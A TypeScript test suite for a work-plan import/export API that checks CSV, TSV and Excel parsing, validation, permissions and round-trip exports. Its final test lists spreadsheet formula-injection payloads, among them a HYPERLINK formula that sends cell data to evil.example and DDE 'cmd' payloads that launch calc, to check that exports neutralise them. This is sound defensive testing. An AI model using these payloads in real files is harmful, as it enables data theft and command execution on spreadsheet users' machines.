import type { ImportPreviewDto, WorkItemListDto, WorkPlanDto } from '@plexus/contracts';
import { parseDelimited } from '@plexus/server';
import { Workbook } from 'exceljs';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { networkWorkbook } from '../fixtures/workbooks';
import { createTestDatabase, HttpClient, newNetwork, startApi, type Fixture, type TestApi, type TestDatabase } from '../support/harness';

const fixture = (name: string) => readFileSync(join(__dirname, '../fixtures/work-plan', name));

function upload(bytes: Buffer | string, name: string, options?: unknown): FormData {
  const form = new FormData();
  if (options !== undefined) form.append('options', typeof options === 'string' ? options : JSON.stringify(options));
  form.append('file', new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)]), name);
  return form;
}

async function download(
  client: HttpClient,
  path: string,
): Promise<{ status: number; type: string | null; disposition: string | null; bytes: Buffer }> {
  const res = await fetch(client.base + path, { headers: { cookie: `plexus_session=${client.cookie('plexus_session')}` } });
  return {
    status: res.status,
    type: res.headers.get('content-type'),
    disposition: res.headers.get('content-disposition'),
    bytes: Buffer.from(await res.arrayBuffer()),
  };
}

describe('work plans: import and export', () => {
  let db: TestDatabase;
  let api: TestApi;
  let a: Fixture;
  let manager: HttpClient;
  const base = '/api/networks/wp-imp/work-plan';

  beforeAll(async () => {
    db = await createTestDatabase();
    api = await startApi(db);
    a = await newNetwork(api.db, 'wp-imp');
    manager = await new HttpClient(api.url).login(a.users.manager.email);
    // Leadership roles: leads written as these titles are linked to the people who hold them.
    const profile = (await manager.get('/api/networks/wp-imp/profile')).body;
    const saved = await manager.put('/api/networks/wp-imp/profile', {
      version: profile.version,
      name: profile.name,
      specialty: profile.specialty,
      region: profile.region,
      purpose: profile.purpose,
      vision: profile.vision,
      coreFunctions: profile.coreFunctions,
      memberOrganisations: profile.memberOrganisations,
      branding: { primaryColour: '#005eb8', accentColour: '#41b6e6', classification: 'OFFICIAL' },
      leadershipRoles: [
        { title: 'Network Manager', personName: a.users.manager.displayName },
        { title: 'Network Medical Lead', personName: `Dr ${a.users.lead.displayName}` },
      ],
    });
    expect(saved.status).toBe(200);
  });
  afterAll(async () => {
    await api?.close();
    await db?.drop();
  });

  async function newPlan(title: string): Promise<WorkPlanDto> {
    const res = await manager.post(`${base}/plans`, { title, periodStart: '2023-04-01', periodEnd: '2025-03-31' });
    expect(res.status).toBe(201);
    return res.body;
  }

  async function auditCount(): Promise<number> {
    return (await manager.get('/api/networks/wp-imp/audit?limit=200')).body.items.length;
  }

  it('previews seed 000 pasted from Word, imports it on confirmation, and links leads to the people who hold the roles', async () => {
    const plan = await newPlan('Objectives and Work Plan 2023–25');
    const preview = await manager.request(
      'POST',
      `${base}/plans/${plan.id}/import/preview`,
      upload(fixture('seed-000-major-trauma.tsv'), 'pasted-table.tsv'),
    );
    expect(preview.status).toBe(200);
    const p = preview.body as ImportPreviewDto;
    expect(p).toMatchObject({ format: 'tsv', ok: true, fileProblems: [], summary: { items: 30, themes: 7, errors: 0, flaggedTimescales: 1 } });
    expect(p.columns.map((c) => [c.header, c.field])).toEqual([
      ['Work Plan', 'work'],
      ['Metric', 'measures'],
      ['Timescale', 'timescale'],
      ['Lead', 'leads'],
    ]);
    // Nothing is saved by a preview.
    expect((await manager.get(`${base}/plans/${plan.id}`)).body.counts.items).toBe(0);

    const imported = await manager.request(
      'POST',
      `${base}/plans/${plan.id}/import`,
      upload(fixture('seed-000-major-trauma.tsv'), 'pasted-table.tsv'),
    );
    expect(imported.status).toBe(201);
    expect(imported.body).toMatchObject({ imported: 30, themes: 7, flaggedTimescales: 1 });
    const tree = (await manager.get(`${base}/plans/${plan.id}`)).body as WorkPlanDto;
    expect(tree.themes.map((t) => t.title)).toEqual([
      'Function 1 – Service Delivery',
      'Function 2 - Resources',
      'Function 3 – Workforce',
      'Function 4 - Quality',
      'Function 5 - Collaboration',
      'Function 6 - Transformation',
      'Function 7 - Population Health',
    ]);
    expect(tree.themes[0].description).toBe('Plan and Manage Capacity & Demand');
    const second = tree.themes[0].items[1];
    expect(second.leads.map((l) => l.label)).toEqual([
      `Network Medical Lead (${a.users.lead.displayName})`,
      'Network Rehab Director',
      `Network Manager (${a.users.manager.displayName})`,
    ]);
    expect(tree.counts.flagged).toBe(1);

    // The lead now finds the items they lead.
    const lead = await new HttpClient(api.url).login(a.users.lead.email);
    const mine = (await lead.get(`${base}/my-items`)).body as WorkItemListDto;
    expect(mine.items.length).toBeGreaterThanOrEqual(15);
    expect(mine.items.every((i) => i.canProgress)).toBe(true);
  });

  it('imports seed 001 from CSV: strategic objectives, numbered objectives, and the typos kept and flagged', async () => {
    const plan = await newPlan('Network Work Plan 2017–18');
    const res = await manager.request('POST', `${base}/plans/${plan.id}/import`, upload(fixture('seed-001-spinal-work-plan.csv'), 'spinal.csv'));
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ imported: 16, themes: 4, objectives: 16, flaggedTimescales: 5 });
    const tree = (await manager.get(`${base}/plans/${plan.id}`)).body as WorkPlanDto;
    expect(tree.themes.map((t) => [t.title, t.objectives.length])).toEqual([
      ['Quality Strategic Objective', 7],
      ['Innovation Strategic Objective', 2],
      ['Productivity Strategic Objective', 4],
      ['Prevention Strategic Objective', 3],
    ]);
    const flagged = (await manager.get(`${base}/plans/${plan.id}/items?flagged=true`)).body as WorkItemListDto;
    expect(flagged.items.map((i) => i.timescale.text)).toEqual(Array(5).fill('April to July 20017'));
    expect(flagged.items[0].timescale.flag).toMatch(/typo/);
  });

  it('refuses a mixed file as a whole, naming each bad row, and writes nothing', async () => {
    const plan = await newPlan('Mixed');
    const csv = [
      'Theme,Work,Timescale,Lead',
      'Quality,Good row,Q1 2024/25,Network Manager',
      'Quality,,Q2 2024/25,Network Manager',
      'Quality,Another good row,sometime,',
      'Quality,,,',
    ].join('\n');
    const preview = (await manager.request('POST', `${base}/plans/${plan.id}/import/preview`, upload(csv, 'mixed.csv'))).body as ImportPreviewDto;
    expect(preview.ok).toBe(false);
    expect(preview.summary).toMatchObject({ items: 3, errors: 1, flaggedTimescales: 1 });
    expect(preview.rows[1].problems).toEqual([{ field: 'work', severity: 'error', message: expect.stringMatching(/work is missing/) }]);
    const before = await auditCount();
    const res = await manager.request('POST', `${base}/plans/${plan.id}/import`, upload(csv, 'mixed.csv'));
    expect(res.status).toBe(400);
    expect(res.body.message).toMatch(/nothing was imported/);
    expect(res.body.fields).toEqual([{ field: 'rows.1.work', message: expect.stringMatching(/^Row 3: /) }]);
    expect((await manager.get(`${base}/plans/${plan.id}`)).body.counts.items).toBe(0);
    expect(await auditCount()).toBe(before);
  });

  it('answers 4xx naming the field for bad files and options', async () => {
    const plan = await newPlan('Bad files');
    const post = (form: FormData | undefined, path = 'import/preview') => manager.request('POST', `${base}/plans/${plan.id}/${path}`, form);
    const none = await post(undefined);
    expect(none.status).toBe(400);
    expect(none.body.fields[0].field).toBe('file');
    const xls = await post(upload(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'old.xls'));
    expect(xls.body.fields[0]).toEqual({ field: 'file', message: expect.stringMatching(/old Excel file/) });
    const brokenZip = await post(upload(Buffer.from('PK\u0003\u0004 not really'), 'plan.xlsx'));
    expect(brokenZip.body.fields[0]).toEqual({ field: 'file', message: expect.stringMatching(/not an Excel workbook/) });
    const noHeader = await post(upload('just some words\nand more', 'notes.txt'));
    expect(noHeader.status).toBe(200);
    expect(noHeader.body.fileProblems[0]).toMatch(/No header row/);
    const refused = await post(upload('just some words\nand more', 'notes.txt'), 'import');
    expect(refused.status).toBe(400);
    expect(refused.body.fields[0].field).toBe('file');
    const badJson = await post(upload('Work,Lead\nx,y', 'a.csv', '{not json'));
    expect(badJson.body.fields[0].field).toBe('options');
    const badColumn = await post(upload('Work,Lead\nx,y', 'a.csv', { columns: ['work', 'wizard'] }));
    expect(badColumn.status).toBe(400);
    expect(badColumn.body.fields[0].field).toBe('options.columns.1');
    const huge = await post(upload(Buffer.alloc(4 * 1024 * 1024 + 10, 'a'), 'huge.csv'));
    expect(huge.status).toBe(413);
    expect(huge.body.fields[0]).toEqual({ field: 'file', message: expect.stringMatching(/4 MB or smaller/) });
  });

  it('follows the columns the manager chose', async () => {
    const plan = await newPlan('Chosen columns');
    const csv = 'Task,Person,When\nDo the thing,Network Manager,Q1 2024/25\n';
    const guessed = (await manager.request('POST', `${base}/plans/${plan.id}/import/preview`, upload(csv, 'a.csv'))).body as ImportPreviewDto;
    expect(guessed.columns.map((c) => c.field)).toEqual(['work', null, 'timescale']);
    const res = await manager.request(
      'POST',
      `${base}/plans/${plan.id}/import`,
      upload(csv, 'a.csv', { columns: ['work', 'leads', 'timescale'], defaultTheme: 'Delivery' }),
    );
    expect(res.status).toBe(201);
    const tree = (await manager.get(`${base}/plans/${plan.id}`)).body as WorkPlanDto;
    expect(tree.themes[0].title).toBe('Delivery');
    expect(tree.themes[0].items[0].leads[0].userId).toBe(a.users.manager.id);
  });

  it('keeps imports to managers and to draft plans', async () => {
    const plan = await newPlan('Guarded');
    const lead = await new HttpClient(api.url).login(a.users.lead.email);
    expect((await lead.request('POST', `${base}/plans/${plan.id}/import/preview`, upload('Work\nx', 'a.csv'))).status).toBe(403);
    await manager.post(`${base}/plans/${plan.id}/approve`, { approvedOn: '2023-05-01' });
    const res = await manager.request('POST', `${base}/plans/${plan.id}/import`, upload('Work,Lead\nx,y', 'a.csv'));
    expect(res.status).toBe(409);
  });

  async function buildRichPlan(): Promise<WorkPlanDto> {
    let plan = await newPlan('Round trip');
    plan = (
      await manager.post(`${base}/plans/${plan.id}/themes`, { title: 'Quality Strategic Objective', description: 'To improve the quality of care' })
    ).body;
    plan = (await manager.post(`${base}/plans/${plan.id}/themes`, { title: 'Function 5 - Collaboration', description: '' })).body;
    const [quality, collaboration] = plan.themes;
    plan = (await manager.post(`${base}/themes/${quality.id}/objectives`, { number: '1', title: 'To identify Network boundaries' })).body;
    plan = (
      await manager.post(`${base}/themes/${quality.id}/objectives`, { number: '2', title: 'To agree Terms of Reference, using "national" templates' })
    ).body;
    const [o1, o2] = plan.themes[0].objectives;
    const items = [
      { themeId: quality.id, work: 'Theme-level work', timescale: 'Ongoing', leads: [{ title: 'Information Analyst Specialist' }] },
      {
        themeId: quality.id,
        objectiveId: o1.id,
        work: 'Define Spinal Hubs, Partners and AQPs',
        measures: ['Hubs defined', 'AQPs listed'],
        steps: ['Initial meeting', 'Circulate templates'],
        timescale: 'January to March 2017',
        leads: [{ userId: a.users.manager.id, title: 'Network Manager' }, { userId: a.users.lead.id }],
      },
      { themeId: quality.id, objectiveId: o1.id, work: '=SUM(A1) is not a formula here', timescale: 'April to July 20017' },
      {
        themeId: quality.id,
        objectiveId: o2.id,
        work: 'Agree Terms of Reference',
        measures: ['Agreed ToR'],
        timescale: 'Q4 2023/24 Q4 2024/25',
        leads: [{ title: 'RSN Board' }],
      },
      {
        themeId: collaboration.id,
        work: 'Design, deliver and evaluate Annual Network Conferences',
        measures: ['Annual Conference'],
        timescale: 'Q3 2023/24 Q3 2024/25',
        leads: [{ title: 'Conference Lead' }],
      },
    ];
    for (const item of items) {
      const res = await manager.post(`${base}/plans/${plan.id}/items`, item);
      expect(res.status).toBe(201);
      if (item.work.startsWith('Agree'))
        await manager.post(`${base}/items/${res.body.id}/progress`, { on: '2024-01-10', status: 'complete', narrative: 'Agreed' });
      if (item.work.startsWith('Design'))
        await manager.post(`${base}/items/${res.body.id}/progress`, { on: '2024-01-10', status: 'at_risk', narrative: 'Venue not booked' });
    }
    return (await manager.get(`${base}/plans/${plan.id}`)).body;
  }

  /** The plan as the import sees it: what re-importing must reproduce. */
  function shape(plan: WorkPlanDto) {
    return plan.themes.map((t) => ({
      title: t.title,
      description: t.description,
      items: t.items.map(itemShape),
      objectives: t.objectives.map((o) => ({ number: o.number, title: o.title, items: o.items.map(itemShape) })),
    }));
  }
  function itemShape(i: WorkPlanDto['themes'][number]['items'][number]) {
    return {
      work: i.work,
      measures: i.measures,
      steps: i.steps,
      timescale: i.timescale.text,
      flag: i.timescale.flag,
      leads: i.leads.map((l) => [l.userId, l.title]),
      status: i.status,
    };
  }

  it('exports to CSV that imports again to the same plan (round trip)', async () => {
    const original = await buildRichPlan();
    const csv = await download(manager, `${base}/plans/${original.id}/export?format=csv`);
    expect(csv.status).toBe(200);
    expect(csv.type).toMatch(/^text\/csv/);
    expect(csv.disposition).toMatch(/^attachment; filename="wp-imp-round-trip-\d{4}-\d\d-\d\d\.csv"$/);
    const text = csv.bytes.toString('utf8');
    const table = parseDelimited(text.replace(/^\uFEFF/, ''), ',');
    expect(table[0].slice(0, 10)).toEqual([
      'Theme',
      'Theme description',
      'Objective no.',
      'Objective',
      'Work',
      'Measures of success',
      'Steps',
      'Timescale',
      'Leads',
      'Status',
    ]);
    expect(table.find((r) => r[4]?.includes('SUM'))?.[4]).toBe("'=SUM(A1) is not a formula here");

    const copy = await newPlan('Round trip copy');
    const res = await manager.request('POST', `${base}/plans/${copy.id}/import`, upload(csv.bytes, 'export.csv'));
    expect(res.status).toBe(201);
    const reimported = (await manager.get(`${base}/plans/${copy.id}`)).body as WorkPlanDto;
    expect(shape(reimported)).toEqual(shape(original));
    // And its export is the same file, line for line, in the columns that describe the plan.
    const again = parseDelimited(
      (await download(manager, `${base}/plans/${copy.id}/export?format=csv`)).bytes.toString('utf8').replace(/^\uFEFF/, ''),
      ',',
    );
    expect(again.map((r) => r.slice(0, 10))).toEqual(table.map((r) => r.slice(0, 10)));
  });

  it('exports to Excel, a sheet per theme or one flat sheet, that imports again to the same plan', async () => {
    const original = await buildRichPlan();
    for (const layout of ['themes', 'flat'] as const) {
      const xlsx = await download(manager, `${base}/plans/${original.id}/export?format=xlsx&layout=${layout}`);
      expect(xlsx.status).toBe(200);
      expect(xlsx.type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      const book = new Workbook();
      await book.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
      expect(book.worksheets.map((s) => s.name)).toEqual(
        layout === 'themes' ? ['Plan', 'Quality Strategic Objective', 'Function 5 - Collaboration'] : ['Plan', 'Work plan'],
      );
      const copy = await newPlan(`Excel copy ${layout}`);
      const res = await manager.request('POST', `${base}/plans/${copy.id}/import`, upload(xlsx.bytes, 'export.xlsx'));
      expect(res.status).toBe(201);
      expect(shape((await manager.get(`${base}/plans/${copy.id}`)).body)).toEqual(shape(original));
    }
  });

  it('reads a workbook made by hand: rich text, dates and formulas', async () => {
    const book = new Workbook();
    const sheet = book.addWorksheet('My plan');
    sheet.addRow(['Work', 'Metric', 'Timescale', 'Lead']);
    sheet.addRow([
      { richText: [{ text: 'Rich ', font: { bold: true } }, { text: 'text work' }] },
      'A measure',
      new Date(Date.UTC(2024, 2, 31)),
      'Network Manager',
    ]);
    sheet.addRow([{ formula: '"Formula work"', result: 'Formula work' }, '', 'Q1 2024/25', '']);
    const plan = await newPlan('Hand-made workbook');
    const preview = (
      await manager.request('POST', `${base}/plans/${plan.id}/import/preview`, upload(Buffer.from(await book.xlsx.writeBuffer()), 'mine.xlsx'))
    ).body as ImportPreviewDto;
    expect(preview.format).toBe('xlsx');
    expect(preview.rows.map((r) => [r.work, r.timescale.text, r.timescale.kind])).toEqual([
      ['Rich text work', '2024-03-31', 'date'],
      ['Formula work', 'Q1 2024/25', 'range'],
    ]);
  });
  it('understands a real network workbook: merged banners become themes, references are kept, leads split, RAG fills become statuses', async () => {
    const plan = await newPlan('Network workbook');
    const res = await manager.request('POST', `${base}/plans/${plan.id}/import/preview`, upload(Buffer.from(networkWorkbook()), 'work-plan.xlsx'));
    expect(res.status).toBe(200);
    const p = res.body as ImportPreviewDto;
    expect(p).toMatchObject({ format: 'xlsx', ok: true, fileProblems: [], summary: { items: 4, themes: 2 } });
    expect(p.columns.map((c) => c.field)).toEqual(['reference', 'objective', 'work', 'leads', 'timescale']);
    expect(p.notes).toEqual([
      "Row 3 'Capacity and Flow' spans the table: used as a theme.",
      "Row 6 'Workforce' spans the table: used as a theme.",
      "References kept from column A ('Ref') for 4 rows: the items keep them rather than being numbered.",
      'Leads split at "/" or line breaks in 3 rows.',
      "Status taken from cell colour in column A ('Ref') for 4 rows.",
    ]);
    expect(p.rows.map((r) => [r.row, r.reference, r.theme, r.status])).toEqual([
      [4, '1.1', 'Capacity and Flow', 'off_track'],
      [5, '1.2', 'Capacity and Flow', 'at_risk'],
      [7, '3.4', 'Workforce', 'on_track'],
      [8, '3.5', 'Workforce', 'complete'],
    ]);

    const imported = await manager.request('POST', `${base}/plans/${plan.id}/import`, upload(Buffer.from(networkWorkbook()), 'work-plan.xlsx'));
    expect(imported.status).toBe(201);
    const tree = (await manager.get(`${base}/plans/${plan.id}`)).body as WorkPlanDto;
    expect(tree.themes.map((t) => t.title)).toEqual(['Capacity and Flow', 'Workforce']);
    const items = tree.themes.flatMap((t) => [...t.items, ...t.objectives.flatMap((o) => o.items)]);
    expect(items.map((i) => [i.ref, i.work, i.leads.map((l) => l.label), i.status])).toEqual([
      ['1.1', 'Publish a monthly capacity dashboard', [`Network Manager (${a.users.manager.displayName})`, 'Information Analyst'], 'off_track'],
      [
        '1.2',
        'Agree repatriation standards with every trauma unit',
        ['Network Chair', `Network Manager (${a.users.manager.displayName})`],
        'at_risk',
      ],
      ['3.4', 'Run the annual rehabilitation study day', ['Rehab Lead', `Network Manager (${a.users.manager.displayName})`], 'on_track'],
      ['3.5', 'Publish the competency framework', ['Rehab Lead'], 'complete'],
    ]);
    expect(tree.themes[0].objectives.map((o) => o.title)).toEqual(['Reduce delays to definitive care']);
    // The references go out in the export and come back in on import.
    const csv = parseDelimited(
      (await download(manager, `${base}/plans/${plan.id}/export?format=csv`)).bytes.toString('utf8').replace(/^\uFEFF/, ''),
      ',',
    );
    expect(csv[0].at(-1)).toBe('Ref');
    expect(csv.slice(1).map((r) => r.at(-1))).toEqual(['1.1', '1.2', '3.4', '3.5']);
  });

  it('neutralises every formula-like cell in the CSV and Excel exports, and imports them back as written', async () => {
    let plan = await newPlan('Formulas');
    plan = (await manager.post(`${base}/plans/${plan.id}/themes`, { title: '+Theme starting with a plus', description: '@description' })).body;
    const themeId = plan.themes[0].id;
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click here")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '+1+1', '@SUM(A1:A2)'];
    for (const work of hostile)
      expect(
        (await manager.post(`${base}/plans/${plan.id}/items`, { themeId, work, measures: ['+10% waits'], timescale: 'Q1 2024/25' })).status,
      ).toBe(201);

    const csvBytes = (await download(manager, `${base}/plans/${plan.id}/export?format=csv`)).bytes;
    const rows = parseDelimited(csvBytes.toString('utf8').replace(/^\uFEFF/, ''), ',').slice(1);
    expect(rows.map((r) => r[4])).toEqual(hostile.map((w) => `'${w}`));
    expect(rows.every((r) => r[0] === "'+Theme starting with a plus" && r[1] === "'@description" && r[5] === "'+10% waits")).toBe(true);
    const formulaLike = /^[=+\-@\t\r]/;
    expect(rows.flat().filter((cell) => formulaLike.test(cell))).toEqual([]);

    const xlsxBytes = (await download(manager, `${base}/plans/${plan.id}/export?format=xlsx&layout=flat`)).bytes;
    const book = new Workbook();
    await book.xlsx.load(xlsxBytes as unknown as ArrayBuffer);
    const cells: string[] = [];
    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(String(cell.value))));
    expect(cells.filter((cell) => formulaLike.test(cell))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(hostile.map((w) => `'${w}`)));

    for (const [bytes, name] of [
      [csvBytes, 'formulas.csv'],
      [xlsxBytes, 'formulas.xlsx'],
    ] as const) {
      const copy = await newPlan(`Formulas copy ${name}`);
      expect((await manager.request('POST', `${base}/plans/${copy.id}/import`, upload(bytes, name))).status).toBe(201);
      const tree = (await manager.get(`${base}/plans/${copy.id}`)).body as WorkPlanDto;
      expect(tree.themes.map((t) => [t.title, t.description])).toEqual([['+Theme starting with a plus', '@description']]);
      expect(tree.themes[0].items.map((i) => [i.work, i.measures])).toEqual(hostile.map((w) => [w, ['+10% waits']]));
    }
  });
});
